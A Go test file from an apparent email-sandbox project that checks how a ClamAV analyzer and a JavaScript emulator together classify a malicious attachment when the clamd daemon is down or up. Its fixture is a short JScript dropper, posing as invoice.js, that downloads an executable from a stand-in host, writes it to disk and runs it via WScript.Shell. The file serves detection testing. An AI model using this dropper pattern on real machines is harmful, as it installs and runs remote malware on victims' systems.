package clamav

import (
	"context"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/airlockmail/airlock/sandboxd/analyzer"
	"github.com/airlockmail/airlock/sandboxd/analyzer/inproc"
	"github.com/airlockmail/airlock/sandboxd/analyzer/jsemu"
	"github.com/airlockmail/airlock/verdict"
)

// TestClamdDownOthersDecide runs the analyzers the way sandboxd's
// in-process runner does: with clamd down, clamav reports an error and
// the JavaScript emulator still finds the dropper malicious; with clamd
// up, both contribute.
func TestClamdDownOthersDecide(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	down := l.Addr().String()
	l.Close()
	js, err := jsemu.New(jsemu.Config{Timeout: 30 * time.Second, CPU: 10 * time.Second}, nil)
	if err != nil {
		t.Fatal(err)
	}
	dropper := []byte(`var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://bad.test/a.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody); s.SaveToFile("C:\\a.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\a.exe"); // AIRLOCK-BODY-MARKER-5521
`)
	f := inproc.File("invoice.js", dropper)
	cases := []struct {
		addr       string
		wantErr    bool
		wantClamav bool
	}{
		{down, true, false},
		{testClamd.tcp, false, true},
	}
	for _, c := range cases {
		av, err := New(Config{Address: c.addr, Timeout: 2 * time.Second}, nil)
		if err != nil {
			t.Fatal(err)
		}
		rep := inproc.Run(context.Background(), []analyzer.Analyzer{av, js}, analyzer.DefaultScoring(), f, time.Minute)
		if rep.Verdict != verdict.Malicious {
			t.Errorf("clamd %s: verdict %s, want malicious (findings %+v)", c.addr, rep.Verdict, rep.Findings)
		}
		gotErr := len(rep.Errors) == 1 && strings.HasPrefix(rep.Errors[0], "clamav:")
		if gotErr != c.wantErr {
			t.Errorf("clamd %s: errors %v", c.addr, rep.Errors)
		}
		gotClamav := false
		for _, fi := range rep.Findings {
			gotClamav = gotClamav || fi.Analyzer == "clamav"
		}
		if gotClamav != c.wantClamav {
			t.Errorf("clamd %s: clamav finding %v, want %v", c.addr, gotClamav, c.wantClamav)
		}
	}
}
